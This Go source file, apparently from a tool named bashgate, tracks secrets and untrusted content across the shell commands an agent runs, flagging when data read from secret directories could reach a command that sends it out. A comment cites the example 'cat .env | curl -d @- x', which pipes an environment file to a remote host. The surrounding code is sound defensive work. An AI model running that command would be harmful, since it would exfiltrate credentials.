package session

import (
	"path"
	"strings"

	"github.com/bashgate/bashgate/engine"
	"github.com/bashgate/bashgate/internal/mask"
	"github.com/bashgate/bashgate/policy"
)

// Rules is what counts, as a person has set it up.
type Rules struct {
	From            int      // the level from which a label counts: 1 to 3
	ContainsSecrets []string // directories, absolute: reading a file there shows a secret
}

// Declared adds what reading shows in the directories that are said to contain
// secrets.
func (r Rules) Declared(nodes []engine.Node) {
	if len(r.ContainsSecrets) == 0 {
		return
	}
	for i := range nodes {
		n := &nodes[i]
		r.Declared(n.Children)
		for _, p := range n.Reads {
			for _, dir := range r.ContainsSecrets {
				if below(p.Path, path.Clean(dir)) {
					n.Sights = append(n.Sights, engine.Sight{Secret: 2, What: p.Path, Why: "A file below a directory that is said to contain secrets"})
				}
			}
		}
	}
}

// Events are the labels that a line or a tool brings, in the order in which
// its commands run. What looks like a secret in the name of a file is masked.
func Events(nodes []engine.Node, use, agent string) []Event {
	var events []Event
	walk(nodes, func(n *engine.Node) {
		for _, s := range n.Sights {
			if s.Corruption > 0 || s.Secret > 0 {
				events = append(events, Event{Kind: Seen, Corruption: s.Corruption, Secret: s.Secret, What: policy.Visible(mask.Text(s.What)), Why: policy.Visible(mask.Text(s.Why)), Use: use, Agent: agent})
			}
		}
	})
	return events
}

// walk visits the commands in the order of the text, a wrapper before what it
// runs.
func walk(nodes []engine.Node, visit func(*engine.Node)) {
	for i := range nodes {
		visit(&nodes[i])
		walk(nodes[i].Children, visit)
	}
}

// Within is what counts for a line: what the session has seen, and what the
// line's own commands show to those behind them: cat .env | curl -d @- x. A
// secret that a command reads counts for the command itself, which can send
// it away, and so does what it runs; what it brings from outside counts for
// later ones. In a loop and in
// the background every command may be a later one.
func (r Rules) Within(v *engine.Verdict, t engine.Taint) engine.Taint {
	own, counts := engine.Taint{}, t
	walk(v.Tree, func(n *engine.Node) {
		for _, s := range n.Sights {
			if !s.Runs {
				s.Corruption = 0
			}
			if s.Brought {
				s.Secret = 0
			}
			own = join(own, s.Corruption, s.Secret, r.From)
		}
		if n.Beyond(t.Untouched) > policy.ReachLocal {
			counts.Corruption = max(counts.Corruption, own.Corruption)
			counts.Secret = max(counts.Secret, own.Secret)
		}
		for _, s := range n.Sights {
			own = join(own, s.Corruption, s.Secret, r.From) // a secret that is not counted yet was brought
		}
	})
	return both(counts, r.again(v.Tree, engine.Taint{Untouched: t.Untouched}))
}

// again is what counts for commands that may run after those behind them: what
// all others of their text show, and what is outside of it.
func (r Rules) again(nodes []engine.Node, outside engine.Taint) (counts engine.Taint) {
	behind := make([]engine.Taint, len(nodes)+1)
	for i := len(nodes) - 1; i >= 0; i-- {
		behind[i] = both(behind[i+1], r.shows(nodes[i:i+1]))
	}
	before := outside
	for i := range nodes {
		n, others := &nodes[i], outside
		if n.Again() {
			if others = both(before, behind[i+1]); n.Beyond(outside.Untouched) > policy.ReachLocal {
				counts = both(counts, others)
			}
		}
		counts = both(counts, r.again(n.Children, others))
		before = both(before, r.shows(nodes[i:i+1]))
	}
	return counts
}

// shows is what commands show, all of them.
func (r Rules) shows(nodes []engine.Node) (t engine.Taint) {
	walk(nodes, func(n *engine.Node) {
		for _, s := range n.Sights {
			t = join(t, s.Corruption, s.Secret, r.From)
		}
	})
	return t
}

func both(a, b engine.Taint) engine.Taint {
	return engine.Taint{Corruption: max(a.Corruption, b.Corruption), Secret: max(a.Secret, b.Secret), Damaged: a.Damaged || b.Damaged, Untouched: a.Untouched || b.Untouched}
}

// below reports whether p is dir or lies below it.
func below(p, dir string) bool {
	return p == dir || dir == "/" || strings.HasPrefix(p, dir) && len(p) > len(dir) && p[len(dir)] == '/'
}

// words says in words what two levels stand for.
func words(corruption, secret int) string {
	switch {
	case corruption > 0 && secret > 0:
		return "untrusted content and secrets"
	case corruption > 0:
		return "untrusted content"
	}
	return "secrets"
}
